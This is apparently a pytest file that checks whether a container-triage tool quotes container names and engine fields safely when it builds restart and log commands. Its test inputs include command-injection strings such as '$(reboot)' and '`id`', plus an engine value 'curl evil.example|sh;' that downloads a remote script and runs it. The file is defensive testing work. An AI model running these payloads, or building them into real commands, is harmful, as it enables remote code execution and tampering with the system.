"""What is shown to be typed: names from outside are words, never options or commands."""

from __future__ import annotations

import shlex

import pytest
from gotriage.records.service import ContainerState
from gotriage.rules import remedies
from gotriage.rules.evidence import Evidence


@pytest.mark.parametrize("name", ["$(reboot)", "a b", "x;id", "a'b", "`id`", "a\\b", "é", "~", "*", "a\nb", ""])
def test_a_name_is_one_word(name):
    assert shlex.split(remedies.word(name)) == [name]


def test_a_name_that_reads_as_an_option_is_set_off():
    assert remedies.word("-Hevil.service") == "-- -Hevil.service"
    assert remedies.word("--host=x y") == "-- '--host=x y'"


def evidence(story, **fields) -> Evidence:
    container = {"engine": "docker", "id": "0123456789abcdef", "name": "web-1", "status": "running", **fields}
    story.target(unit=None, container_id=container["id"], engine=container["engine"])
    story.add(ContainerState, **container)
    return Evidence(story.session, {})


def test_a_container(story):
    assert remedies.restart(evidence(story)) == "docker restart web-1"


def test_an_engine_that_is_no_engine_is_not_typed(story):
    """A recording may come from anyone, and names what made the container."""
    given = evidence(story, engine="curl evil.example|sh;")
    assert remedies.engine(given) == ""
    assert "evil" not in remedies.restart(given) + remedies.logs(given)


def test_a_containers_name_that_reads_as_an_option_is_not_typed(story):
    assert remedies.restart(evidence(story, name="--help")) == "docker restart 0123456789ab"
